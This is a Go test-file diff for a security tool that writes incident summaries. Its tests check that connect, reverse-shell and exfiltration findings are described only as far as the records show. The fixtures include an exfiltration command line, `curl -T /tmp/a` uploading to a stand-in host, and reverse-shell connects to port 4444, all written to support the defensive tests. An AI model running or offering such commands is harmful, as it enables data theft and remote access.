@@ -141,3 +141,98 @@ func TestInferredStageWithRequestsIsNotUnseen(t *testing.T) {
 		}
 	}
 }
+
+// A stage's sentence words each connect by what its record shows: a
+// reverse shell's connect is a channel, any other connect is a connect; a
+// non-blocking connect whose result the log does not hold is not
+// "connected"; a failed one is an attempt.
+func TestStageSentencePeersSayTheOutcome(t *testing.T) {
+	t0 := time.Date(2024, 3, 5, 10, 0, 0, 0, time.UTC)
+	n := 0
+	conn := func(stage int, peer, rule, reason, outcome, why string) DocFinding {
+		n++
+		title := "Outbound Connection"
+		if strings.HasPrefix(reason, "a shell acting") {
+			title = "Reverse Shell Connection"
+		}
+		return DocFinding{ID: FindingID(n - 1), RuleID: rule, Title: title, Severity: "high", Stage: stage, Time: t0.Add(time.Duration(n) * time.Second),
+			Kind: "connect", Peer: peer, Reason: reason, Outcome: outcome, OutcomeReason: why, ChainID: "C01",
+			Process: &DocProcess{PID: 10 + n, Exe: "/usr/bin/curl", Args: []string{"curl"}}}
+	}
+	for _, tc := range []struct {
+		name      string
+		stage     int
+		fs        []DocFinding
+		want, not []string
+	}{
+		{"reverse shell and a plain connect", 7, []DocFinding{
+			conn(7, "203.0.113.7:4444", "web-reverse-shell-connect", "a shell acting for the web server connects out: a reverse shell", OutcomeSuccess, ""),
+			conn(7, "203.0.113.8:8000", "web-outbound-connect", "outbound connection from a process acting for the web server", OutcomeSuccess, ""),
+			// the reverse-shell rule placing a raw upload: the match is an upload
+			conn(7, "203.0.113.9:9002", "web-reverse-shell-connect", "connection of a command that sends data out; re-entry … reverse shell", OutcomeSuccess, ""),
+		}, []string{"channel to 203.0.113.7:4444", "connected to 203.0.113.8:8000, 203.0.113.9:9002"}, []string{"channel to 203.0.113.7:4444, 203.0.113.8:8000"}},
+		{"non-blocking", 8, []DocFinding{
+			conn(8, "203.0.113.8:8000", "web-outbound-connect", "connection of a command that sends data out", OutcomeUnknown, "EINPROGRESS: a non-blocking connect whose result the log does not record"),
+		}, []string{"connect to 203.0.113.8:8000 (non-blocking: the log does not record whether it connected)"}, []string{"connected to"}},
+		{"one of two connects of a peer took effect", 8, []DocFinding{
+			conn(8, "203.0.113.8:8000", "web-outbound-connect", "", OutcomeUnknown, "EINPROGRESS"),
+			conn(8, "203.0.113.8:8000", "web-outbound-connect", "", OutcomeSuccess, ""),
+		}, []string{"connected to 203.0.113.8:8000"}, []string{"non-blocking"}},
+		{"refused", 8, []DocFinding{
+			conn(8, "203.0.113.9:9001", "web-outbound-connect", "", OutcomeFailure, "ECONNREFUSED (connection refused)"),
+		}, []string{"tried to connect to 203.0.113.9:9001, which failed: ECONNREFUSED (connection refused)"}, []string{"connected to"}},
+	} {
+		byID := map[string]*DocFinding{}
+		var ids []string
+		for i := range tc.fs {
+			byID[tc.fs[i].ID] = &tc.fs[i]
+			ids = append(ids, tc.fs[i].ID)
+		}
+		sg := DocStage{Stage: tc.stage, Name: "Stage", Observed: true, Confidence: "observed", FindingIDs: ids}
+		got := sentence(&DocChain{ID: "C01", FindingIDs: ids, Stages: []DocStage{sg}}, sg, byID, "").Text
+		for _, w := range tc.want {
+			if !strings.Contains(got, w) {
+				t.Errorf("%s: %q lacks %q", tc.name, got, w)
+			}
+		}
+		for _, w := range tc.not {
+			if strings.Contains(got, w) {
+				t.Errorf("%s: %q says %q", tc.name, got, w)
+			}
+		}
+	}
+}
+
+// The clean-up's channels say what the records show: a connect whose
+// result is not recorded did not surely open a connection, and a URL in a
+// command line names a peer, it does not show traffic.
+func TestCleanupChannelsSayWhatTheRecordsShow(t *testing.T) {
+	t0 := time.Date(2024, 3, 5, 10, 0, 0, 0, time.UTC)
+	p := &DocProcess{PID: 30, Exe: "/usr/bin/curl", Args: []string{"curl", "-T", "/tmp/a", "http://203.0.113.8:8000/u"}}
+	fs := []DocFinding{
+		{ID: "F0001", Title: "T", Severity: "high", Stage: 8, StageID: "exfiltration-impact", Time: t0, Kind: "exec", Process: p, ChainID: "C01", Outcome: OutcomeSuccess},
+		{ID: "F0002", Title: "T", Severity: "high", Stage: 7, StageID: "command-and-control", Time: t0, Kind: "connect", Peer: "203.0.113.7:4444",
+			Process: p, ChainID: "C01", Outcome: OutcomeUnknown, OutcomeReason: "EINPROGRESS"},
+	}
+	d := &Document{Findings: fs, Chains: []DocChain{{ID: "C01", Severity: "critical", Score: 400 + 20 + 2, FindingIDs: []string{"F0001", "F0002"},
+		Stages: []DocStage{{Stage: 7, StageID: "command-and-control", Name: "Command and control", Observed: true, Confidence: "observed", FindingIDs: []string{"F0002"}},
+			{Stage: 8, StageID: "exfiltration-impact", Name: "Exfiltration", Observed: true, Confidence: "observed", FindingIDs: []string{"F0001"}}}}}}
+	buildSummary(d)
+	got := map[string]string{}
+	for _, c := range d.Summary.Cleanup {
+		got[c.What] = c.Detail
+	}
+	for what, want := range map[string]string{
+		"203.0.113.7:4444": "connect by curl[30] at 10:00:00 UTC (non-blocking: the log does not record whether it connected)",
+		"203.0.113.8:8000": "named in the command line of `curl -T /tmp/a http://203.0.113.8:8000/u` by curl[30]",
+	} {
+		if !strings.Contains(got[what], want) {
+			t.Errorf("%s: %q, want %q", what, got[what], want)
+		}
+	}
+	for what, d := range got {
+		if strings.Contains(d, "talked to it") || strings.Contains(d, "connection opened") {
+			t.Errorf("%s: %q", what, d)
+		}
+	}
+}
